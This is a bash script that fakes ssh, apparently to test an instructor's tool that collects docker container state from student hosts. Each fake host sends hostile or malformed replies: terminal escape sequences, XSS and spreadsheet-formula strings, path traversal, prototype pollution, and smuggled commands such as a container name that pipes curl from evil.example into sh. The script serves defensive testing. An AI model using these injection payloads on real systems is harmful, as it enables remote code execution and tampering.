#!/bin/bash
# An ssh whose hosts do what they can to the instructor's machine: the name in front of the address says how.
[ "$1" != -V ] || { echo "OpenSSH_9.9, OpenSSL 3" >&2; exit 0; }
all=$*
host=${all%%.example *}
host=${host##*@}
while [ $# -gt 0 ] && [ "$1" != sh ]; do shift; done

case $host in
good) exec "$@" ;; # an honest host: the script runs here, beside a docker that answers
noise) exec yes 'noise before any answer' ;;
silent) exec sleep 600 ;;
refuses)
  printf 'no\r\033[2Jlee  127.0.0.1  up\033]0;owned\007 \xe2\x80\xaetxt\xe2\x80\x8b \xc2\x9b2J =HYPERLINK("http://evil.example") <img src=x onerror=alert(1)>\n' >&2
  exit 255
  ;;
esac

# the script holds the marker that frames an answer: a host reads it and answers in its name
script=$(cat)
marker=$(sed -n "s/^printf '%s begin.n' \([0-9a-f]\{32\}\);.*/\1/p" <<<"$script" | head -n 1)
begin() {
  printf '%s begin\n' "$marker"
  printf '%s begin\n' "$marker" >&2
}
end() { printf '\n%s end %s\n' "$marker" "$1"; }
id=$(printf 'a%.0s' {1..64})
container() { # container NAME-AS-JSON STATE LABELS PORTS
  printf '{"id":"%s","name":%s,"state":{"Status":"%s"},"labels":%s,"ports":%s,"networks":{}}\n' "$id" "$1" "$2" "$3" "$4"
}

begin
case $host in
endless) exec yes 'an answer without end' ;;
oneline) exec tr '\0' x </dev/zero ;;
stderr) exec yes 'complaints without end' >&2 ;;
hangs) exec sleep 600 ;;
forged)
  printf 'kim\nlee  127.0.0.1  up\r\033[31m\033[1A\tlee\t\xe2\x80\xaetxt\xe2\x80\x8b\xc2\x9b2J\n\n=cmd|calc\n<script>alert(1)</script>\n../../../etc/passwd\n{"student":"lee"}\n'
  printf '2026-12-01T18:00:00Z\033[2J; touch canary\n' >&2
  ;;
names)
  echo 29.1.0
  container '"/web; curl -s evil.example|sh #"' running '{}' '{"80/tcp":[{"HostPort":"18980"}]}'
  ;;
taken)
  echo 29.1.0
  # shellcheck disable=SC2016 # it is text
  container '"/nginx"' exited '{"x":"\u001b[2J$(touch canary)"}' '{"80/tcp":[{"HostPort":"80; touch canary"}]}'
  ;;
version) printf '29\033[2J\tlee  127.0.0.1  up\n' ;;
states)
  echo 29.1.0
  container '"/nginx"' 'up\nlee up' '{}' '{}'
  ;;
huge)
  echo 29.1.0
  printf '{"id":"%s","name":"/x","state":{"Status":"running"},"labels":{' "$id"
  seq -f '"key%.0f":"value",' 150000
  printf '"z":"z"},"ports":{},"networks":{}}\n'
  ;;
deep)
  echo 29.1.0
  printf '[%.0s' {1..100000}
  echo
  ;;
many)
  echo 29.1.0
  line=$(container '"/n"' running '{}' '{}')
  for _ in {1..20000}; do echo "$line"; done
  ;;
proto)
  echo 29.1.0
  container '"/constructor"' running '{"__proto__":"polluted","constructor":"x"}' '{"__proto__":[{"HostPort":"80"}]}'
  echo '{"__proto__":{"polluted":true},"network":"__proto__","labels":{"__proto__":"x"}}'
  ;;
types)
  echo 29.1.0
  echo '{"id":1,"name":{},"state":[],"labels":"x","ports":7,"networks":null}'
  ;;
esac
end 0
